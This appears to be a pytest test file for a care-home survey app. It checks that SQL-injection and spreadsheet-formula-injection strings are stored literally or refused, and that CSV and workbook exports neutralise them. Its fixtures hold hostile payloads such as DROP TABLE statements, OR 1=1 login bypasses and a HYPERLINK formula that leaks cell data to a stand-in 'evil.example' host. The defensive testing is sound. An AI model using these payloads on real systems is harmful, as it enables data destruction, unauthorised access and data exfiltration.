"""SQL and spreadsheet-formula injection through every input that reaches the database or
an export: roster files, programme files, inbound texts, web forms, the sign-in form, the
API's query parameters and the report filters (web and command line).

Each input is either stored as the literal text it was (and the tables are all still
there), or refused with a clear error naming what was wrong. Every export an evaluator
opens in a spreadsheet (`carepulse report --out`, `--wide`, the dashboard's CSV, workbook
and analysis file) holds the hostile names neutralised, never as formulas.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook
from sqlalchemy import func, inspect, select
from twilio.request_validator import RequestValidator

from bot.cli import cli
from storage.accounts import create_account, issue_token
from storage.models import (
    Answer,
    Base,
    CareHome,
    Cohort,
    Invitation,
    Message,
    Person,
    Programme,
    Wave,
)
from surveys.answers import complete_response, record_answer
from surveys.catalogue import definition_of
from surveys.invitations import open_wave, set_status
from surveys.sms_inbox import opening
from tests.conftest import TWILIO_NUMBER, TWILIO_SID, TWILIO_TOKEN
from tests.support.hostile import FORMULA_INJECTIONS, SQL_INJECTIONS
from tests.support.web import PASSWORD, csrf_token, make_app, sign_in, twilio_settings

NOW = dt.datetime.now(dt.UTC)
KEY = "attack-2027"
HOSTILE = SQL_INJECTIONS + FORMULA_INJECTIONS
PRINTABLE = tuple(s for s in HOSTILE if "\x00" not in s)
"""The hostile strings a spreadsheet cell or a YAML file can carry (NUL is tested apart)."""
HOMES = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'; DROP TABLE people; --")
PROGRAMME_NAME = "'; DROP TABLE programmes; --"
COHORT_NAME = "@SUM(A1)"
WAVE_NAMES = {"baseline": "-2+3", "end": "+1"}
FORMULA_START = tuple("=+-@\t\r\x00")
ROSTER_HEADER = [
    "care_home",
    "given_name",
    "family_name",
    "role",
    "mobile",
    "email",
    "active_from",
]


def _collapsed(text: str) -> str:
    """What a roster or programme name becomes: its whitespace collapsed."""
    return " ".join(text.split())


def _local(moment: dt.datetime) -> str:
    return moment.astimezone(dt.UTC).strftime("%Y-%m-%d %H:%M")


def _programme_file(tmp_path: Path, **override) -> Path:
    """A programme whose programme, cohort, wave and home names are all hostile."""
    asks = [
        {"instrument": "staff_morale", "roles": ["care_worker"], "channel": "sms"},
        {"instrument": "manager_self_report", "roles": ["manager"], "channel": "email"},
    ]
    baseline = NOW - dt.timedelta(days=30)
    data = {
        "programme": {"key": KEY, "name": PROGRAMME_NAME, "timezone": "UTC"},
        "cohorts": [
            {
                "key": "c1",
                "name": COHORT_NAME,
                "homes": list(HOMES),
                "waves": [
                    {
                        "key": "baseline",
                        "kind": "baseline",
                        "name": WAVE_NAMES["baseline"],
                        "opens": _local(baseline),
                        "closes": _local(baseline + dt.timedelta(days=14)),
                        "ask": asks,
                    },
                    {
                        "key": "end",
                        "kind": "end",
                        "name": WAVE_NAMES["end"],
                        "opens": _local(NOW - dt.timedelta(days=1)),
                        "closes": _local(NOW + dt.timedelta(days=7)),
                        "ask": asks,
                    },
                ],
            }
        ],
    }
    data["programme"].update(override)
    path = tmp_path / "programme.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


def _roster_rows() -> list[list[str]]:
    """Per home a manager and six care workers, every name a hostile string."""
    rows, n = [], 0
    for home in HOMES:
        for index in range(7):
            name = PRINTABLE[n % len(PRINTABLE)]
            role = "manager" if index == 0 else "care_worker"
            rows.append(
                [
                    home,
                    name,
                    "%' --",
                    role,
                    f"07700 900{100 + n:03d}",
                    f"o'hara{n}@example.org",
                    "2020-01-01",
                ]
            )
            n += 1
    return rows


def _write_roster(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(ROSTER_HEADER)
        writer.writerows(rows)
    return path


def _all_tables_exist(engine) -> None:
    """No table was dropped (nor, on SQLite, the whole schema emptied)."""
    names = set(inspect(engine).get_table_names())
    assert {t.name for t in Base.metadata.sorted_tables} <= names


def _count(session, model) -> int:
    session.rollback()
    return session.scalar(select(func.count()).select_from(model))


@pytest.fixture
def hostile(runner, session, engine, tmp_path):
    """The programme and roster above, loaded through the command line; every invitation
    of both waves answered (so reports have figures and rows named after the homes)."""
    roster = _write_roster(tmp_path / "roster.csv", _roster_rows())
    imported = runner.invoke(cli, ["import-roster", str(roster)])
    assert imported.exit_code == 0, imported.output
    loaded = runner.invoke(cli, ["load-programme", str(_programme_file(tmp_path))])
    assert loaded.exit_code == 0, loaded.output
    session.rollback()
    for wave in session.scalars(select(Wave).order_by(Wave.opens_at)):
        open_wave(session, wave, wave.opens_at)
        for number, invitation in enumerate(
            session.scalars(select(Invitation).where(Invitation.wave_id == wave.id))
        ):
            for item in definition_of(invitation.instrument_version).items:
                value = item.scale.min + number % (item.scale.max - item.scale.min + 1)
                record_answer(session, invitation, item.id, value, "web", wave.opens_at)
            complete_response(session, invitation, wave.opens_at)
    session.commit()


# --------------------------------------------------------------------------- stored literally


def test_roster_and_programme_names_are_stored_as_the_literal_text(hostile, session, engine):
    _all_tables_exist(engine)
    assert {h.name for h in session.scalars(select(CareHome))} == set(HOMES)
    stored = {(p.given_name, p.family_name, p.email) for p in session.scalars(select(Person))}
    expected = {(_collapsed(r[1]), r[2], r[5]) for r in _roster_rows()}
    assert stored == expected  # "'; DROP TABLE people; --" is a name, and people exist
    programme = session.scalar(select(Programme))
    assert (programme.key, programme.name) == (KEY, PROGRAMME_NAME)
    assert session.scalar(select(Cohort.name)) == COHORT_NAME
    assert {w.key: w.name for w in session.scalars(select(Wave))} == WAVE_NAMES


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("email", "' OR 1=1 --"),
        ("email", '=HYPERLINK("http://evil.example")'),
        ("email", "@SUM(A1)"),
        ("email", "'; DROP TABLE people; --@example.org"),
        ("mobile", "' OR 1=1 --"),
        ("mobile", "+1"),
        ("given_name", "x" * 101),
        ("care_home", "y" * 201),
        ("role", "'; DROP TABLE people; --"),
    ],
)
def test_a_hostile_roster_value_is_refused_naming_its_line_and_column(
    runner, session, engine, tmp_path, column, value
):
    row = dict(zip(ROSTER_HEADER, _roster_rows()[1], strict=True))
    row[column] = value
    good = _roster_rows()[2]
    roster = _write_roster(tmp_path / "roster.csv", [good, list(row.values())])
    result = runner.invoke(cli, ["import-roster", str(roster)])
    assert result.exit_code == 1, result.output
    assert "line 3" in result.output and column in result.output
    assert "Traceback" not in result.output
    assert _count(session, Person) == 0 and _count(session, CareHome) == 0
    _all_tables_exist(engine)


def test_a_roster_with_a_nul_byte_is_refused_as_not_text(runner, session, tmp_path):
    rows = _roster_rows()
    rows[0][1] = "Ann\x00'; DROP TABLE people; --"
    result = runner.invoke(cli, ["import-roster", str(_write_roster(tmp_path / "r.csv", rows))])
    assert result.exit_code == 1 and "does not look like a CSV text file" in result.output
    assert _count(session, Person) == 0


@pytest.mark.parametrize(
    "override",
    [
        {"name": "Care\x00'; DROP TABLE programmes; --"},
        {"name": "z" * 201},
        {"key": "' OR 1=1 --"},
        {"key": "=HYPERLINK(1)"},
        {"timezone": "'; DROP TABLE programmes; --"},
    ],
    ids=["nul-in-name", "name-too-long", "sql-key", "formula-key", "sql-timezone"],
)
def test_a_hostile_programme_file_is_refused_with_a_clear_error(
    runner, session, engine, tmp_path, override
):
    result = runner.invoke(cli, ["load-programme", str(_programme_file(tmp_path, **override))])
    assert result.exit_code == 1, result.output
    field = next(iter(override))
    assert f"programme.{field}" in result.output, result.output
    assert "Traceback" not in result.output and result.exception is not None
    assert isinstance(result.exception, SystemExit)
    assert _count(session, Programme) == 0
    _all_tables_exist(engine)


# --------------------------------------------------------------------------- inbound text


def _twilio_client(database_url: str, tmp_path: Path):
    app = make_app(database_url, tmp_path, **twilio_settings())
    return app.test_client()


def test_a_hostile_text_is_stored_literally_and_answers_nothing(
    factory, session, engine, database_url, tmp_path
):
    home = factory.home("Willow Court")
    workers = [factory.person(home) for _ in HOSTILE]
    _, wave = factory.programme(
        [home],
        [("staff_morale", {"roles": ["care_worker"]}, "sms")],
        opens=NOW - dt.timedelta(hours=1),
    )
    open_wave(session, wave, NOW)
    for invitation in session.scalars(select(Invitation)):
        opening(invitation)
        set_status(invitation, "sent", NOW)
    session.commit()
    client = _twilio_client(database_url, tmp_path)
    validator = RequestValidator(TWILIO_TOKEN)
    url = "http://127.0.0.1:5000/twilio/sms"
    sent = []
    # Each care worker replies with one hostile text, then with a real answer.
    for n, (worker, body) in enumerate(zip(workers, HOSTILE, strict=True)):
        for m, text in enumerate((body, "3")):
            form = {
                "MessageSid": f"SM{n:016x}{m:016x}",
                "From": worker.mobile,
                "To": TWILIO_NUMBER,
                "Body": text,
                "AccountSid": TWILIO_SID,
            }
            signed = {"X-Twilio-Signature": validator.compute_signature(url, form)}
            response = client.post("/twilio/sms", data=form, headers=signed)
            assert response.status_code == 200, (text, response.get_data(as_text=True))
            assert "<Message>" in response.get_data(as_text=True)  # re-asked, then thanked
            sent.append(text)
    _all_tables_exist(engine)
    session.rollback()
    received = session.scalars(
        select(Message.body).where(Message.direction == "in").order_by(Message.id)
    ).all()
    # Stored as sent, except NUL, which a text cannot carry and PostgreSQL cannot hold.
    assert received == [b.replace("\x00", "") for b in sent]
    # No hostile text was taken for an answer, and every real one was; except a lone number
    # with a sign before it, which is that number (read as generously as "#4" is 4).
    lone_numbers = {"+1": 1, "\t=1": 1, "\r=1": 1}
    expected = [lone_numbers.get(body, 3) for body in HOSTILE]
    assert [a.value for a in session.scalars(select(Answer).order_by(Answer.id))] == expected


# --------------------------------------------------------------------------- web forms


def test_hostile_survey_answers_are_refused_and_nothing_is_saved(factory, session, client):
    home = factory.home("Willow Court")
    factory.person(home, role="manager")
    _, wave = factory.programme(
        [home],
        [("manager_self_report", {"roles": ["manager"]}, "email")],
        opens=NOW - dt.timedelta(hours=1),
    )
    open_wave(session, wave, NOW)
    invitation = session.scalars(select(Invitation)).one()
    session.commit()
    assert client.get(f"/s/{invitation.token}").status_code == 303
    page = client.get("/survey/q/1").get_data(as_text=True)
    csrf = csrf_token(page)
    item = definition_of(invitation.instrument_version).items[0]
    for value in HOSTILE:
        response = client.post("/survey/q/1", data={"csrf_token": csrf, item.id: value})
        assert response.status_code == 400, value
        assert "Select an answer" in response.get_data(as_text=True)
    assert _count(session, Answer) == 0
    # Text in a field no question has is ignored, whatever it says.
    extra = {"csrf_token": csrf, item.id: "3", "'; DROP TABLE answers; --": "=1"}
    assert client.post("/survey/q/1", data=extra).status_code == 303
    assert _count(session, Answer) == 1


def test_hostile_sign_in_attempts_are_refused(session, client, engine):
    create_account(session, "admin@example.org", PASSWORD, "admin")
    session.commit()
    csrf = csrf_token(client.get("/login").get_data(as_text=True))
    attempts = [(s, s) for s in HOSTILE] + [
        ("admin@example.org' --", "x"),
        ("admin@example.org", "' OR '1'='1"),
        ("' OR 1=1 LIMIT 1 --", PASSWORD),
    ]
    for email, password in attempts:
        data = {"csrf_token": csrf, "email": email, "password": password}
        response = client.post("/login", data=data)
        # Refused as bad credentials, or (after many tries) by the sign-in rate limit.
        assert response.status_code in (200, 400, 429), (email, response.status_code)
        assert client.get("/dashboard/").status_code == 302  # still signed out
    _all_tables_exist(engine)


# --------------------------------------------------------------------------- query filters


FILTER_PARAMETERS = ("home", "role", "cohort", "pre", "post", "channel")


def test_hostile_api_parameters_are_answered_or_refused(hostile, app, session, engine):
    account = create_account(
        session, "eval@example.org", PASSWORD, "evaluator", programme_keys=[KEY]
    )
    token = issue_token(session, account)[1]
    session.commit()
    client = app.test_client()
    headers = {"Authorization": f"Bearer {token}"}
    people = _count(session, Person)
    for value in HOSTILE:
        for parameter in FILTER_PARAMETERS:
            response = client.get(
                f"/api/v1/programmes/{KEY}/report", query_string={parameter: value}, headers=headers
            )
            assert response.status_code in (200, 400, 403), (parameter, value)
            body = response.get_json()
            assert body is not None and (response.status_code == 200 or body["error"])
        path = f"/api/v1/programmes/{value}/report"
        assert client.get(path, headers=headers).status_code == 404
    _all_tables_exist(engine)
    assert _count(session, Person) == people


def test_hostile_dashboard_filters_are_answered_or_refused(hostile, app, session, engine):
    create_account(session, "admin@example.org", PASSWORD, "admin")
    session.commit()
    client = app.test_client()
    assert sign_in(client, "admin@example.org").status_code == 303
    for value in PRINTABLE:
        for parameter in ("home", "pre"):
            response = client.get(f"/dashboard/{KEY}/", query_string={parameter: value})
            assert response.status_code in (200, 400, 403), (parameter, value)
    _all_tables_exist(engine)


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_report_filters_on_the_command_line(hostile, runner, value):
    for option in ("--home", "--role", "--cohort", "--pre"):
        result = runner.invoke(cli, ["report", "--programme", KEY, option, value])
        assert result.exit_code in (0, 1), (option, result.output)
        assert "Traceback" not in result.output
        if result.exit_code:
            assert result.output.startswith("Error:"), result.output


# --------------------------------------------------------------------------- exports


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_no_formula_cells(cells: list[str], where: str) -> None:
    live = [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)]
    assert not live, f"{where}: cells a spreadsheet would run: {live[:5]}"


def _assert_safe_workbook(data: bytes, where: str) -> None:
    workbook = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: formula in {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    _assert_no_formula_cells(texts, where)
    assert any(t == "'" + HOMES[0] for t in texts), f"{where}: home name missing"


def test_command_line_exports_neutralise_every_hostile_name(hostile, runner, tmp_path):
    out, wide = tmp_path / "out", tmp_path / "wide.csv"
    result = runner.invoke(
        cli, ["report", "--programme", KEY, "--out", str(out), "--wide", str(wide)]
    )
    assert result.exit_code == 0, result.output
    texts = []
    for path in sorted(out.glob("*.csv")):
        cells = _csv_cells(path.read_text(encoding="utf-8-sig"))
        _assert_no_formula_cells(cells, path.name)
        texts += cells
    assert "'" + HOMES[0] in texts and HOMES[1] in texts  # neutralised, and kept as text
    _assert_safe_workbook((out / "report.xlsx").read_bytes(), "report.xlsx")
    wide_cells = _csv_cells(wide.read_text(encoding="utf-8-sig"))
    _assert_no_formula_cells(wide_cells, "wide.csv")
    assert "'" + HOMES[0] in wide_cells


def test_dashboard_downloads_neutralise_every_hostile_name(hostile, app, session):
    create_account(session, "admin@example.org", PASSWORD, "admin")
    session.commit()
    client = app.test_client()
    assert sign_in(client, "admin@example.org").status_code == 303
    for table in ("response_rates_by_home", "morale_by_home", "prepost"):
        response = client.get(f"/dashboard/{KEY}/tables/{table}.csv")
        assert response.status_code == 200, table
        _assert_no_formula_cells(_csv_cells(response.get_data(as_text=True)), table)
    workbook = client.get(f"/dashboard/{KEY}/report.xlsx")
    assert workbook.status_code == 200
    _assert_safe_workbook(workbook.get_data(), "report.xlsx")
    wide = client.get(f"/dashboard/{KEY}/wide.csv")
    assert wide.status_code == 200
    cells = _csv_cells(wide.get_data(as_text=True))
    _assert_no_formula_cells(cells, "wide.csv")
    assert "'" + HOMES[0] in cells
